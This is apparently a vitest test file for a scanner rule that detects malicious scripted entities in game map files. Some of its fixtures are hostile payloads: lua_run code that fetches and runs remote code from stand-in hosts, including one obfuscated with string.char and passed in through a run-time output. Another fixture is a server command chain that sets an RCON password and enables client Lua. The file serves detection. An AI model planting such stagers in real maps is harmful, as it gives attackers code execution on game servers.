// Valid and invalid cases of the `map_luarun` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './map_luarun.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('map_luarun', () => {
  it('lua_run entity with a stager', () => {
    const findings = check(rule, {
      'maps/x.bsp':
        '{\n"classname" "lua_run"\n"Code" "http.Fetch(\'https://a.invalid\', RunString)"\n}',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('map without scripted entities', () => {
    const findings = check(rule, { 'maps/y.bsp': '{\n"classname" "info_player_start"\n}' });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a point_servercommand that an output tells to set the RCON password and allow client Lua', () => {
    const findings = check(rule, {
      'maps/z.bsp': [
        '{\n"classname" "point_servercommand"\n"targetname" "fog_ctrl"\n}',
        '{\n"classname" "logic_auto"\n"OnMapSpawn" "fog_ctrl,Command,fog_override 0,1,-1"',
        '"OnMapSpawn" "fog_ctrl,Command,rcon_password hb_7731,14,-1"',
        '"OnMapSpawn" "fog_ctrl\x1bCommand\x1bsv_allowcslua 1\x1b15\x1b-1"\n}',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    expect(findings[0]?.decoded).toContain('sv_allowcslua 1');
  });
  it('a lua_run handed, through an output added at run time, code with braces and colons', () => {
    const findings = check(rule, {
      'maps/r.bsp': [
        '{\n"classname" "lua_run"\n"targetname" "river_fx"\n}',
        '{\n"classname" "logic_relay"\n"targetname" "amb_relay"\n}',
        '{\n"classname" "logic_auto"',
        '"OnMapSpawn" "amb_relay,AddOutput,OnTrigger river_fx:RunPassedCode:HTTP({url=\'https\'..string.char(58)..\'//m.x.invalid/a.php\'; success=function(c, b) RunString(b) end}):2:-1,1,-1"',
        '"OnMapSpawn" "amb_relay,Trigger,,3,-1"\n}',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('an output added at run time that changes the fog (benign)', () => {
    const findings = check(rule, {
      'maps/r.bsp': [
        '{\n"classname" "point_servercommand"\n"targetname" "cmd"\n}',
        '{\n"classname" "logic_auto"',
        '"OnMapSpawn" "amb_relay,AddOutput,OnTrigger cmd:Command:fog_override 1:2:-1,1,-1"\n}',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a point_servercommand that an output tells to change the fog', () => {
    const findings = check(rule, {
      'maps/z.bsp': [
        '{\n"classname" "point_servercommand"\n"targetname" "fog_ctrl"\n}',
        '{\n"classname" "logic_auto"\n"OnMapSpawn" "fog_ctrl,Command,fog_override 0,1,-1"\n}',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a map's scripted event: a lua_run fired by a button, calling the map's own functions", () => {
    const findings = check(rule, {
      'maps/heist.bsp': [
        '{\n"classname" "lua_run"\n"targetname" "vault_lua"\n"Code" "Heist.OpenVault(ACTIVATOR)"\n}',
        '{\n"classname" "func_button"\n"OnPressed" "vault_lua,RunCode,,0,-1"\n}',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
    expect(findings.length).toBeGreaterThan(0);
  });
});
